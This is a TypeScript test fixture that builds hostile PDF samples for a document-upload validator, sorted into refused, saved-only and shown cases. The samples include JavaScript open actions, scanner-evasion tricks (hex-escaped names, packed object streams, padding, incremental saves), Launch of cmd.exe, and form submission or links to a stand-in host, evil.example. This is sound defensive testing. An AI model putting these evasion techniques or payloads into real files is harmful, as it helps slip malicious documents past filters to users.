import { deflateSync } from 'node:zlib'
import { fileRefusals } from '@soleira/domain/document/file'
import type { HostileFile } from './hostile-file.ts'
import { samplePdf } from './sample-files.ts'

type Parts = NonNullable<Parameters<typeof samplePdf>[0]>
type Packing = NonNullable<Parts['packing']>

const action = '<< /S /JavaScript /JS (app.alert\\(document.domain\\)) >>'
const openAction = (entries: string) => samplePdf({ catalogue: `/OpenAction << ${entries} >>` })

function packed(dictionary: string, pack: (objects: Buffer) => Buffer = deflateSync): Buffer {
  const packing: Packing = (objects) => ({ dictionary, bytes: pack(objects) })
  return samplePdf({ catalogue: '/OpenAction 7 0 R', packed: action, packing })
}
const objectStream = '/Type /ObjStm /N 1 /First 4'
const inHex = (bytes: Buffer) => Buffer.from(`${bytes.toString('hex')}>`)
const inRuns = (bytes: Buffer) =>
  Buffer.concat([...[...bytes].map((byte) => Buffer.from([0, byte])), Buffer.from([128])])

function savedAgain(added: string): Buffer {
  const first = samplePdf()
  const index = first.length + added.length
  const end = `xref\n0 0\ntrailer\n<< /Size 9 /Root 1 0 R /Prev 9 >>\nstartxref\n${index}\n%%EOF\n`
  return Buffer.concat([first, Buffer.from(added + end, 'latin1')])
}

const hiddenStream = `9 0 obj\n<< ${objectStream} /Filter /FlateDecode /Length 80 >>\nstream\n${deflateSync(`7 0 ${action}`).toString('latin1')}\nendstream\nendobj\n`

/** Files whose name marks them as a script: refused. */
const refused: Record<string, Buffer> = {
  'runs a script when opened': openAction(
    `/S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('/api/canary'\\))`,
  ),
  'disguises the name of its script': openAction('/S /J#61v#61Script /JS (app.alert\\(1\\))'),
  'has a comment before the name of its script': openAction('/S %\n/JavaScript /JS (app.alert\\(1\\))'),
  'runs a script when its page is left': samplePdf({ catalogue: `/AA << /WC ${action} >>` }),
  'lists its scripts by name': samplePdf({
    catalogue: `/Names << /JavaScript << /Names [(a) ${action}] >> >>`,
  }),
  'packs its script away': packed(`${objectStream} /Filter /FlateDecode`),
  'packs its script away, as a list of one': packed(`${objectStream} /Filter [/FlateDecode]`),
  'packs its script away behind a long dictionary': packed(
    `${objectStream} /Filter /FlateDecode /Padding (${'x'.repeat(4_000)})`,
  ),
  'packs its script away behind a dictionary of a megabyte': packed(
    `${objectStream} /Filter /FlateDecode /Padding (${'x'.repeat(1_000_000)})`,
  ),
  'disguises the stream that packs its script': packed('/Type /Obj#53tm /N 1 /First 4 /Filter /FlateDecode'),
  'says twice how its script is packed': packed(`${objectStream} /Filter /FlateDecode /Filter /Fl`),
  'packs its script away behind a comment': packed(
    `${objectStream} /Filter /FlateDecode %${'>>'.repeat(300)}\n`,
  ),
  'packs its script away without a type': packed('/N 1 /First 4 /Filter /FlateDecode'),
  'packs its script away behind a wrong length': packed(`${objectStream} /Filter /FlateDecode /Length 3`),
  'packs its script away when it is saved again': savedAgain(hiddenStream),
  'packs its script away inside of a stream': savedAgain(
    `8 0 obj\n<< /Length 300 >>\nstream\n${hiddenStream}endstream\nendobj\n`,
  ),
}

const aField = '<< /FT /Btn /T (Enviar) /Kids [] >>'
const form = (entries: string, packed?: string) =>
  samplePdf({ catalogue: `/AcroForm << /Fields [${aField}] >> ${entries}`, ...(packed && { packed }) })
const button = (act: string) => form(`/X << /Subtype /Widget /A << ${act} >> >>`)

const toAddress = '<< /S /URI /URI (https://evil.example/) >>'
const withObjects = (entries: string, objects: Record<number, string>) => {
  const each = Object.entries(objects).map(([number, value]) => `\n${number} 0 obj\n${value}\nendobj`)
  return Buffer.concat([form(entries), Buffer.from(`${each.join('')}\n%%EOF\n`)])
}

/** Forms that open, send or start something: refused. */
const leaving: Record<string, Buffer> = {
  'starts a program': button('/S /Launch /F (cmd.exe)'),
  'sends what is filled in': button('/S /SubmitForm /F (https://evil.example/)'),
  'takes data in': button('/S /ImportData /F (a.fdf)'),
  'opens another file': button('/S /GoToR /F (a.pdf) /D [0 /Fit]'),
  'opens a file within it': button('/S /GoToE /D [0 /Fit]'),
  'starts a program after a jump': button('/S /GoTo /D [3 0 R /Fit] /Next << /S /Launch /F (cmd.exe) >>'),
  'opens an address when opened': form('/OpenAction << /S /URI /URI (https://evil.example/) >>'),
  'opens an address when a page is shown': form('/AA << /O << /S /URI /URI (https://evil.example/) >> >>'),
  'opens an address after a jump when opened': form(
    '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /URI /URI (https://evil.example/) >>] >>',
  ),
  'opens an address that stands elsewhere': withObjects('/OpenAction 12 0 R', { 12: toAddress }),
  'opens an address after a jump that stands elsewhere': withObjects('/OpenAction 12 0 R', {
    12: '<< /S /GoTo /D [3 0 R /Fit] /Next 13 0 R >>',
    13: toAddress,
  }),
  'opens an address by a list that stands elsewhere': withObjects(
    '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 12 0 R >>',
    { 12: '[13 0 R 14 0 R]', 13: '<< /S /GoTo /D [3 0 R /Fit] >>', 14: toAddress },
  ),
  'opens an address when a page is shown, by words that stand elsewhere': withObjects('/AA 12 0 R', {
    12: '<< /O 13 0 R >>',
    13: toAddress,
  }),
  'opens an address in a circle of jumps': withObjects('/OpenAction 12 0 R', {
    12: '<< /S /GoTo /D [3 0 R /Fit] /Next [12 0 R 13 0 R] >>',
    13: toAddress,
  }),
  'starts a program after a jump that stands elsewhere': withObjects(
    '/X << /Subtype /Widget /A << /S /GoTo /D [3 0 R /Fit] /Next 12 0 R >> >>',
    { 12: '<< /S /Launch /F (cmd.exe) >>' },
  ),
  'packs the address away to which it jumps': form('/OpenAction 7 0 R', toAddress),
  'packs its action away': form('', '<< /S /SubmitForm /F (https://evil.example/) >>'),
}

/** Files that may hold a script or act on their own: saved and never shown. */
const savedOnly: Record<string, Buffer> = {
  'packs its script twice': packed(`${objectStream} /Filter [/ASCIIHexDecode /FlateDecode]`, (objects) =>
    inHex(deflateSync(objects)),
  ),
  'writes its packed script in digits': packed(`${objectStream} /Filter /ASCIIHexDecode`, inHex),
  'packs its script in runs': packed(`${objectStream} /Filter /RunLengthDecode`, inRuns),
  'packs its script by LZW': packed(`${objectStream} /Filter /LZWDecode`),
  'packs its script as a picture': packed(`${objectStream} /Filter /JBIG2Decode`),
  'encrypts its packed script': packed(`${objectStream} /Filter [/Crypt /FlateDecode]`),
  'shortens the name of the packing': packed(`${objectStream} /Filter /Fl`),
  'says elsewhere how its script is packed': packed(`${objectStream} /Filter 8 0 R`),
  'predicts its packed script': packed(
    `${objectStream} /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 9 >>`,
  ),
  'keeps its packed script in another file': packed(`${objectStream} /Filter /FlateDecode /F (a.bin)`),
  'says elsewhere what its stream is': packed('/Type 8 0 R /Filter /ASCIIHexDecode', inHex),
  'cuts its packed script short': packed(`${objectStream} /Filter /FlateDecode`, (objects) =>
    deflateSync(objects).subarray(0, -6),
  ),
  'unpacks to 12 MB': samplePdf({ packed: ' '.repeat(12_000_000) }),
  'packs its script behind a dictionary without end': packed(
    `${objectStream} /Filter /FlateDecode /Padding (${'x'.repeat(1_200_000)})`,
  ),
  'is encrypted': samplePdf({ trailer: '/Encrypt << /Filter /Standard /V 5 /R 6 >>' }),
  'is encrypted, disguised': samplePdf({ trailer: '/E#6ecrypt 9 0 R' }),
  'is of version 2 and encrypted': samplePdf({ version: '2.0', trailer: '/Encrypt 9 0 R' }),
  'names its script by digits': openAction('/S <4A617661536372697074> /JS (app.alert\\(1\\))'),
  'names its script by a text': openAction('/S (JavaScript) /JS (app.alert\\(1\\))'),
  'disguises the script of a film': openAction('/S /Rendition /#4a#53 (app.alert\\(1\\))'),
  'packs the script of a film': samplePdf({ packed: '<< /S /Rendition /JS (app.alert\\(1\\)) >>' }),
  'packs the name of its script by digits': samplePdf({ packed: '<< /S <4A617661536372697074> >>' }),
  'is a form that is a program': samplePdf({ catalogue: '/AcroForm << /XFA 8 0 R >>' }),
  'sends a form when opened': openAction('/S /SubmitForm /F (https://evil.example/)'),
  'opens another file': openAction('/S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\a.pdf) /D [0 /Fit]'),
  'starts a program': openAction('/S /Launch /F (cmd.exe)'),
  'holds another file': samplePdf({ catalogue: '/Names << /EmbeddedFiles << /Names [(a) 8 0 R] >> >>' }),
  'hides an object in a comment': samplePdf({ catalogue: '%8 0 obj << /Type /A >> stream\n' }),
  'hides an object in a text': samplePdf({ catalogue: '/A (8 0 obj << /Type /A >> stream)' }),
  'nests what no writer nests': samplePdf({ catalogue: `/A ${'['.repeat(5_000)}${']'.repeat(5_000)}` }),
}

const shown: Record<string, Buffer> = {
  'is a form with a link': button('/S /URI /URI (https://exemplo.com.br)'),
  'is a form with a link that jumps to a page when opened': withObjects('/OpenAction 12 0 R', {
    12: '<< /S /GoTo /D [3 0 R /Fit] >>',
    13: `<< /Subtype /Link /A ${toAddress} >>`,
    14: toAddress,
  }),
  'is a form that jumps to a page when opened': form('/OpenAction << /S /GoTo /D [3 0 R /Fit] >>'),
  'opens a page when opened': openAction('/S /URI /URI (javascript:alert\\(1\\))'),
  'has a link with signs that disguise elsewhere': samplePdf({
    catalogue: '/A << /S /URI /URI (https://exemplo.com.br/a/JS#4aS/S#53) >>',
  }),
  'jumps to a page when opened': openAction('/S /GoTo /D [3 0 R /Fit]'),
  'says which font it has by a name with spaces': samplePdf({ catalogue: '/F /Arial#20Bold#2c' }),
  'is of version 2': samplePdf({ version: '2.0' }),
}

function named(
  files: Record<string, Buffer>,
  which: Pick<HostileFile, 'verdict' | 'isSavedOnly'>,
): HostileFile[] {
  return Object.entries(files).map(([what, bytes], index) => ({
    what: `a PDF that ${what}`,
    name: `script-${index}.pdf`,
    bytes,
    ...which,
  }))
}

/** PDFs that would run a script, act on their own, or look as if (T4, T36). */
export const scriptedPdfs: readonly HostileFile[] = [
  ...named(refused, { verdict: fileRefusals.script }),
  ...named(leaving, { verdict: fileRefusals.opens }),
  ...named(savedOnly, { verdict: 'application/pdf', isSavedOnly: true }),
  ...named(shown, { verdict: 'application/pdf' }),
]
